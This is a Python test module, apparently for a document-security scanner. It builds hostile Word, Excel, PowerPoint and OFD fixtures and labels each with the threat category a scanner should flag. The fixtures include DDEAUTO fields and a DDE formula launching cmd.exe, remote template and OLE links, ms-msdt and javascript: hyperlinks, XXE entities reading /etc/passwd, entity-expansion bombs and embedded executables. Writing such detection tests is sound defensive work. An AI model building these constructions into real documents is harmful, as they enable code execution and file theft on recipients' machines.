"""Word, Excel, PowerPoint and OFD packages with something in them that runs or fetches."""

from __future__ import annotations

from tests.evidence.hostile import papers
from tests.evidence.hostile.bad_documents import OFD, OUTSIDE, PROGRAM, SHEET, SLIDES, WORD
from tests.evidence.hostile.cases import Case
from tests.evidence.hostile.containers import changed, entries, ole, packed

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def with_relation(package: bytes, part: str, line: str) -> bytes:
    return changed(package, {part: papers.relations(line)})


def with_field(*runs: str) -> bytes:
    return changed(WORD, {"word/document.xml": f"<w:document {_W}>{''.join(runs)}</w:document>"})


def field(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def instruction(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def with_formula(text: str) -> bytes:
    return changed(SHEET, {"xl/worksheets/sheet1.xml": f"<worksheet><f>{text}</f></worksheet>"})


def retyped(package: bytes, before: str, after: str) -> bytes:
    types = entries(package)["[Content_Types].xml"].decode()
    return changed(package, {"[Content_Types].xml": types.replace(before, after)})


def offices() -> list[Case]:
    word_rels, sheet_rels = "word/_rels/extra.xml.rels", "xl/_rels/extra.xml.rels"
    remote, here = "http://203.0.113.9/a", papers.relation
    doctype = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    lol = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'
    return [
        Case(
            "macros.docx", changed(WORD, {"word/vbaProject.bin": ole({"VBA/dir": b"x"})}), "macros"
        ),
        Case(
            "called-macros.docx",
            retyped(WORD, "document.main", "document.macroEnabled.main"),
            "macros",
        ),
        Case("macros.xlsx", changed(SHEET, {"xl/vbaProject.bin": b"x"}), "macros"),
        Case("old-macros.xlsx", changed(SHEET, {"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
        Case(
            "opens.xlsx",
            changed(
                SHEET,
                {"xl/workbook.xml": '<w><definedName name="_xlnm.Auto_Open">A1</definedName></w>'},
            ),
            "macros",
        ),
        Case(
            "vb-name.xlsx",
            changed(
                SHEET,
                {"xl/workbook.xml": '<workbook><definedName name="a" vbProcedure="1"/></workbook>'},
            ),
            "macros",
        ),
        Case(
            "ole.docx",
            changed(WORD, {"word/embeddings/oleObject1.bin": ole({"\x01Ole10Native": PROGRAM})}),
            "embedded",
        ),
        Case("program.docx", changed(WORD, {"word/embeddings/setup.exe": PROGRAM}), "embedded"),
        Case(
            "program-as-picture.docx", changed(WORD, {"word/media/image9.png": PROGRAM}), "embedded"
        ),
        Case("document-inside.docx", changed(WORD, {"word/embeddings/a.docx": WORD}), "embedded"),
        Case(
            "package.docx",
            with_relation(WORD, word_rels, here(1, "package", "embeddings/a.xlsx")),
            "embedded",
        ),
        Case(
            "ole-link.docx",
            with_relation(WORD, word_rels, here(1, "oleObject", remote, OUTSIDE)),
            "embedded",
        ),
        Case("activex.docx", changed(WORD, {"word/activeX/activeX1.xml": "<ocx/>"}), "activex"),
        Case(
            "control.xlsx",
            with_relation(SHEET, sheet_rels, here(1, "control", "../a.xml")),
            "activex",
        ),
        Case(
            "template.docx",
            with_relation(WORD, word_rels, here(1, "attachedTemplate", remote, OUTSIDE)),
            "external",
        ),
        Case(
            "far-picture.docx",
            with_relation(WORD, word_rels, here(1, "image", remote, OUTSIDE)),
            "external",
        ),
        Case(
            "far-picture.pptx",
            with_relation(SLIDES, "ppt/_rels/x.xml.rels", here(1, "image", "\\\\h\\s\\a.png")),
            "external",
        ),
        Case(
            "frame.docx",
            with_relation(WORD, word_rels, here(1, "frame", remote, OUTSIDE)),
            "external",
        ),
        Case(
            "other-book.xlsx",
            with_relation(SHEET, sheet_rels, here(1, "externalLinkPath", remote, OUTSIDE)),
            "external",
        ),
        Case(
            "outside.xlsx",
            changed(SHEET, {"xl/externalLinks/externalLink1.xml": "<a/>"}),
            "external",
        ),
        Case(
            "connections.xlsx", changed(SHEET, {"xl/connections.xml": "<connections/>"}), "external"
        ),
        Case(
            "script-link.docx",
            with_relation(WORD, word_rels, here(1, "hyperlink", "javascript:alert(1)", OUTSIDE)),
            "external",
        ),
        Case(
            "msdt.docx",
            with_relation(WORD, word_rels, here(1, "hyperlink", "ms-msdt:/id", OUTSIDE)),
            "external",
        ),
        Case(
            "dde.docx",
            with_field(field("begin"), instruction(" DDEAUTO c:\\\\cmd.exe "), field("end")),
            "dde",
        ),
        Case(
            "split-dde.docx",
            with_field(
                field("begin"),
                instruction("D"),
                instruction("DE"),
                instruction(" c:\\\\cmd.exe"),
                field("end"),
            ),
            "dde",
        ),
        Case("short-dde.docx", with_field('<w:fldSimple w:instr=" DDE c:\\\\cmd.exe "/>'), "dde"),
        Case("open-dde.docx", with_field(field("begin"), instruction("DDEAUTO cmd")), "dde"),
        Case(
            "nested-dde.docx",
            with_field(
                field("begin"),
                field("begin"),
                instruction(" DDE"),
                field("end"),
                instruction(" cmd"),
                field("end"),
            ),
            "dde",
        ),
        Case(
            "spelt-dde.docx",
            with_field(field("begin"), instruction("QUOTE 68 68 69"), field("end")),
            "dde",
        ),
        Case(
            "include.docx",
            with_field(f'<w:fldSimple w:instr="INCLUDEPICTURE &quot;{remote}&quot;"/>'),
            "external",
        ),
        Case("dde.xlsx", with_formula("cmd|'/c calc'!A1"), "dde"),
        Case(
            "dde-link.xlsx",
            changed(SHEET, {"xl/x.xml": "<externalLink><ddeLink/></externalLink>"}),
            "dde",
        ),
        Case("service.xlsx", with_formula(f'WEBSERVICE("{remote}")'), "external"),
        Case(
            "runs.pptx",
            changed(
                SLIDES,
                {"ppt/slides/slide1.xml": '<sld><hlinkClick action="ppaction://program"/></sld>'},
            ),
            "macros",
        ),
        Case("page.docx", changed(WORD, {"word/afchunk.htm": "<html></html>"}), "embedded"),
        Case("strange.docx", changed(WORD, {"word/a.hta": "<script>"}), "part"),
        Case("drawing.docx", changed(WORD, {"word/media/a.svg": "<svg onload='a()'/>"}), "script"),
        Case("xxe.docx", changed(WORD, {"word/document.xml": doctype}), "xml"),
        Case("laughs.xlsx", changed(SHEET, {"xl/sharedStrings.xml": lol}), "xml"),
        Case("xxe-relation.docx", changed(WORD, {"_rels/.rels": doctype}), "xml"),
        Case(
            "wide-xxe.docx", changed(WORD, {"word/document.xml": doctype.encode("utf-16")}), "xml"
        ),
        Case(
            "deep.docx", changed(WORD, {"word/document.xml": "<a>" * 5000 + "</a>" * 5000}), "bomb"
        ),
        Case(
            "inner-macros.pptx",
            changed(SLIDES, {"ppt/embeddings/b.xlsx": changed(SHEET, {"xl/vbaProject.bin": b"x"})}),
            "macros",
        ),
        Case("is-a-sheet.docx", SHEET, "mismatch"),
        Case("is-a-zip.docx", packed({"a.txt": "a"}), "mismatch"),
        Case("is-ofd.xlsx", packed(OFD), "mismatch"),
        Case("password.docx", ole({"EncryptedPackage": b"x", "EncryptionInfo": b"y"}), "mismatch"),
    ]


def ofds() -> list[Case]:
    def ofd(**_: str) -> bytes:
        return packed(OFD)

    def having(name: str, content: bytes | str) -> bytes:
        return packed({**OFD, name: content})

    rooted = OFD["OFD.xml"]
    assert isinstance(rooted, str)
    return [
        Case("program.ofd", having("Doc_0/Attachs/a.exe", PROGRAM), "part"),
        Case("program-as-picture.ofd", having("Doc_0/Res/b.png", PROGRAM), "part"),
        Case("script.ofd", having("Doc_0/a.js", "alert(1)"), "part"),
        Case("xxe.ofd", having("Doc_0/Document.xml", "<!DOCTYPE a SYSTEM 'http://h/'><a/>"), "xml"),
        Case(
            "outside.ofd",
            having("OFD.xml", rooted.replace("Doc_0/D", "../../../etc/D")),
            "external",
        ),
        Case("far.ofd", having("OFD.xml", rooted.replace("Doc_0/D", "http://h/D")), "external"),
        Case("page-outside.ofd", having("Doc_0/x.xml", '<a BaseLoc="../../b.xml"/>'), "external"),
        Case("runs.ofd", having("Doc_0/x.xml", '<a URI="file:///c:/a.exe"/>'), "external"),
        Case("no-root.ofd", having("OFD.xml", rooted.replace("Doc_0/Doc", "Doc_1/Doc")), "damaged"),
        Case("not-ofd.ofd", having("OFD.xml", "<html/>"), "mismatch"),
        Case("is-word.ofd", WORD, "mismatch"),
        Case("locked.ofd", having("Encryptions.xml", "<a/>"), "encrypted"),
    ]
